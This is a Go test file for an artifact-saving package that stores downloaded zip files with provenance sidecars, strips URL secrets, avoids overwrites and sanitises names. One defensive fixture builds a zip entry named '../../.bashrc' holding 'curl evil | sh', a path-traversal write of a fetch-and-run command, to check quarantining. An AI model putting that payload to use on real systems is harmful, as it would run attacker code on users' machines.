package artifact

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/ferrydesk/ferry/backend/errs"
)

func listDir(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, filepath.ToSlash(rel))
		}
		return nil
	})
	sort.Strings(out)
	return out
}

var fixedClock = WithClock(func() time.Time { return time.Date(2026, 11, 30, 1, 2, 3, 0, time.UTC) })

func TestSaveKeepsAGoodZipWithItsProvenance(t *testing.T) {
	dir := t.TempDir()
	zip := goZip(t, goEntry{name: "proj/main.go", data: "package main\n"})
	prov := Provenance{Site: "chatgpt", ConversationURL: "https://chatgpt.com/c/abc?token=SECRET#frag", ConversationID: "abc", MessageID: "m1", SandboxPath: "/mnt/data/project.zip"}
	s, err := Save(context.Background(), dir, "/mnt/data/project.zip", bytes.NewReader(zip), prov, fixedClock, WithFerryVersion("1.2.3"))
	if err != nil {
		t.Fatalf("Save: %v", err)
	}
	if got := listDir(t, dir); strings.Join(got, ",") != "project.zip,project.zip.provenance.json" {
		t.Fatalf("dir holds %v", got)
	}
	if s.Path != filepath.Join(dir, "project.zip") || s.Quarantined || !s.Verdict.OK {
		t.Errorf("saved = %+v", s)
	}
	if b, _ := os.ReadFile(s.Path); !bytes.Equal(b, zip) {
		t.Error("the saved bytes differ from the source")
	}
	raw, err := os.ReadFile(s.SidecarPath)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(raw), "SECRET") {
		t.Errorf("a secret from the URL reached the sidecar: %s", raw)
	}
	var p Provenance
	if err := json.Unmarshal(raw, &p); err != nil {
		t.Fatal(err)
	}
	if p.ConversationURL != "https://chatgpt.com/c/abc" || p.MessageID != "m1" || p.SandboxPath != "/mnt/data/project.zip" ||
		p.SHA256 != s.Verdict.SHA256 || p.Size != int64(len(zip)) || len(p.Files) != 1 || p.Files[0].Name != "proj/main.go" ||
		p.FerryVersion != "1.2.3" || !p.VerifiedAt.Equal(time.Date(2026, 11, 30, 1, 2, 3, 0, time.UTC)) || p.Verdict == nil || !p.Verdict.OK {
		t.Errorf("sidecar = %+v", p)
	}
}

func TestSaveNeverOverwritesAnExistingFile(t *testing.T) {
	dir := t.TempDir()
	first := goZip(t, goEntry{name: "a.txt", data: "first"})
	second := goZip(t, goEntry{name: "a.txt", data: "second"})
	third := goZip(t, goEntry{name: "a.txt", data: "third"})
	if err := os.WriteFile(filepath.Join(dir, "x-1.zip.provenance.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, z := range [][]byte{first, second, third} {
		s, err := Save(context.Background(), dir, "x.zip", bytes.NewReader(z), Provenance{Site: "chatgpt"})
		if err != nil {
			t.Fatal(err)
		}
		paths = append(paths, filepath.Base(s.Path))
	}
	if strings.Join(paths, ",") != "x.zip,x-2.zip,x-3.zip" {
		t.Errorf("names = %v (x-1 is taken by an orphan sidecar)", paths)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "x.zip")); !bytes.Equal(b, first) {
		t.Error("the first file was overwritten")
	}
}

func TestSaveQuarantinesAnUnsafeZip(t *testing.T) {
	dir := t.TempDir()
	evil := goZip(t, goEntry{name: "../../.bashrc", data: "curl evil | sh"})
	s, err := Save(context.Background(), dir, "project.zip", bytes.NewReader(evil), Provenance{Site: "chatgpt"})
	if !errs.Has(err, errs.ArtifactUnsafe) {
		t.Fatalf("err = %v", err)
	}
	if got := strings.Join(listDir(t, dir), ","); got != "quarantine/project.zip,quarantine/project.zip.provenance.json" {
		t.Fatalf("dir holds %v", got)
	}
	if !s.Quarantined || errs.From(err).Evidence["quarantined"] != s.Path {
		t.Errorf("saved = %+v, evidence %v", s, errs.From(err).Evidence)
	}
	var p Provenance
	raw, _ := os.ReadFile(s.SidecarPath)
	json.Unmarshal(raw, &p)
	if !p.Quarantined || p.Reason != ReasonUnsafeName {
		t.Errorf("sidecar does not say why: %s", raw)
	}
}

type failingReader struct{ n int }

func (f *failingReader) Read(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, errors.New("connection reset")
	}
	k := min(len(p), f.n)
	f.n -= k
	return k, nil
}

func TestSaveLeavesNothingBehindOnFailure(t *testing.T) {
	good := goZip(t, goEntry{name: "a.txt", data: strings.Repeat("x", 5000)})
	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	cases := []struct {
		name string
		ctx  context.Context
		src  io.Reader
		code errs.Code
	}{
		{"a corrupt zip", context.Background(), bytes.NewReader(good[:len(good)-1]), errs.ArtifactCorrupt},
		{"a source that fails midway", context.Background(), &failingReader{n: 100}, errs.ArtifactSaveFailed},
		{"a cancelled context", cancelled, bytes.NewReader(good), errs.Cancelled},
	}
	for _, c := range cases {
		t.Run(c.name+" leaves the directory empty", func(t *testing.T) {
			dir := t.TempDir()
			_, err := Save(c.ctx, dir, "x.zip", c.src, Provenance{})
			if got := errs.From(err).Code; got != c.code {
				t.Errorf("code = %q, want %q (%v)", got, c.code, err)
			}
			if got := listDir(t, dir); len(got) != 0 {
				t.Errorf("left behind: %v", got)
			}
		})
	}
}

func TestSafeFileName(t *testing.T) {
	cases := map[string]string{
		"/mnt/data/project.zip":    "project.zip",
		"/mnt/data/my project.zip": "my_project.zip",
		`..\..\evil.zip`:           "evil.zip",
		"/mnt/data/.hidden.zip":    "hidden.zip",
		"/mnt/data/.zip":           "artifact.zip",
		"":                         "artifact.zip",
		"report":                   "report.zip",
		"/mnt/data/caf\u00e9.zip":  "caf_.zip",
		strings.Repeat("a", 300):   strings.Repeat("a", 146) + ".zip",
	}
	for in, want := range cases {
		if got := SafeFileName(in); got != want {
			t.Errorf("SafeFileName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriteFileAtomicReplacesWholeFiles(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "f.json")
	for _, content := range []string{"one", "two"} {
		if err := WriteFileAtomic(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		if b, _ := os.ReadFile(p); string(b) != content {
			t.Errorf("content = %q", b)
		}
	}
	if got := listDir(t, dir); len(got) != 1 {
		t.Errorf("temporary files left: %v", got)
	}
	if st, _ := os.Stat(p); st.Mode().Perm() != privatePerm(0o600) {
		t.Errorf("mode = %v", st.Mode())
	}
	if err := WriteFileAtomic(filepath.Join(dir, "missing", "f"), nil, 0o644); !errs.Has(err, errs.ArtifactSaveFailed) {
		t.Errorf("write into a missing directory: %v", err)
	}
}
